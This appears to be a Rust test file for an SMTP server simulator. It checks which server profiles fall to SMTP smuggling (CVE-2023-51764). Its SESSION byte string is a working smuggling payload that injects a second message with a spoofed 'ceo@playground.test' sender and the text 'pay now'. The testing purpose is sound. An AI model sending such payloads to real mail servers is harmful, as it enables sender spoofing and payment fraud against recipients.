//! SMTP smuggling (CVE-2023-51764): a bare LF before the dot. A server that takes LF alone as a
//! line end (the `postfix` profile, as Postfix 3.7 ships) ends the message there and reads what
//! follows as commands; one that keeps bare LFs as content (every other profile) does not.

use smtp_protocol::event::{ClientLine, Event};
use smtp_protocol::script::Player;
use smtp_protocol::{ProfileName, Server, ServerConfig, Timestamp};

const SESSION: &[u8] = b"EHLO attacker.example\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<bob@playground.test>\r\nDATA\r\n\
Subject: first\r\n\r\nhello\n.\r\nMAIL FROM:<ceo@playground.test>\r\nRCPT TO:<bob@playground.test>\r\nDATA\r\nSubject: smuggled\r\n\r\npay now\r\n.\r\nQUIT\r\n";

fn run(profile: ProfileName) -> (Server, Vec<Event>, String) {
    let mut player = Player::new(ServerConfig::new(profile), Timestamp(1_000));
    player.advance(1);
    player.send(SESSION);
    let wire = String::from_utf8(player.take_wire()).unwrap();
    (player.server, player.events, wire)
}

#[test]
fn postfix_ends_the_message_at_the_bare_lf_and_takes_the_rest_as_a_second_message() {
    let (server, events, wire) = run(ProfileName::Postfix);
    let messages = server.messages();
    assert_eq!(messages.len(), 2, "{wire}");
    assert_eq!(messages[1].envelope.sender_address(), "ceo@playground.test", "the smuggled sender");
    assert!(String::from_utf8_lossy(&messages[1].raw).contains("Subject: smuggled"));
    let end = events.iter().find_map(|e| match e {
        Event::LineReceived { raw, line: ClientLine::DataEnd, .. } => Some(raw.clone()),
        _ => None,
    });
    assert_eq!(end.as_deref(), Some(".\r\n"), "the dot after the bare LF ended the first message");
}

#[test]
fn the_other_profiles_keep_the_bare_lf_in_one_message() {
    for profile in [ProfileName::Exchange, ProfileName::Gmail, ProfileName::Mock, ProfileName::Zos, ProfileName::Cssmtp] {
        let mut config = ServerConfig::new(profile);
        config.policy.require_message_id = false;
        config.policy.auth_required = false;
        config.policy.open_relay = true;
        let mut player = Player::new(config, Timestamp(1_000));
        let session = if profile == ProfileName::Zos { String::from_utf8_lossy(SESSION).replacen("EHLO", "HELO", 1) } else { String::from_utf8_lossy(SESSION).into_owned() };
        player.send(session.as_bytes());
        let wire = String::from_utf8(player.take_wire()).unwrap();
        let messages = player.server.messages();
        assert_eq!(messages.len(), 1, "{profile:?}: {wire}");
        let raw = String::from_utf8_lossy(&messages[0].raw);
        assert!(raw.contains("hello\n.\r\nMAIL FROM:<ceo@playground.test>"), "{profile:?} kept it as content: {raw}");
        assert_eq!(messages[0].envelope.sender_address(), "a@attacker.example");
    }
}

#[test]
fn a_command_ended_by_a_bare_lf_is_marked_in_the_record() {
    let mut player = Player::new(ServerConfig::new(ProfileName::Postfix), Timestamp(1_000));
    player.send(b"EHLO a.example\nNOOP\r\n");
    let marks: Vec<(String, bool)> = player
        .events
        .clone()
        .into_iter()
        .filter_map(|e| match e {
            Event::LineReceived { raw, bare_lf, .. } => Some((raw.to_string(), bare_lf)),
            _ => None,
        })
        .collect();
    assert_eq!(marks, [("EHLO a.example".to_string(), true), ("NOOP".to_string(), false)]);
}
